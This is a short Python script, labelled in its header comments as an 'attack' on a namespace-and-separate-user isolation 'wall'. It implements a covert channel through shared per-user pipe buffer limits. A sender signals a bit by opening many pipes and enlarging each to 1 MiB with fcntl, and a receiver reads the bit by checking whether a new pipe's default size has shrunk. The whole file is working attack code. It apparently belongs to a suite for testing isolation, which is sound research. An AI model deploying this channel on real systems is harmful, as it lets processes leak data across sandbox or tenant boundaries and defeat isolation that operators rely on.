# attack: how much a new pipe holds: less as soon as the user has many
# wall: namespaces.py: another user for every server
# user: nobody

import fcntl
import os

held = []


def put(n, bit):
    if bit and not held:
        for _ in range(110):
            try:
                pipe = os.pipe()
                held.append(pipe)
                fcntl.fcntl(pipe[1], 1031, 1 << 20)
            except OSError:
                break
    if not bit:
        for pipe in held:
            os.close(pipe[0]), os.close(pipe[1])
        held.clear()


def get(n):
    reader, writer = os.pipe()
    size = fcntl.fcntl(writer, 1032)
    os.close(reader), os.close(writer)
    return int(size < 65536)
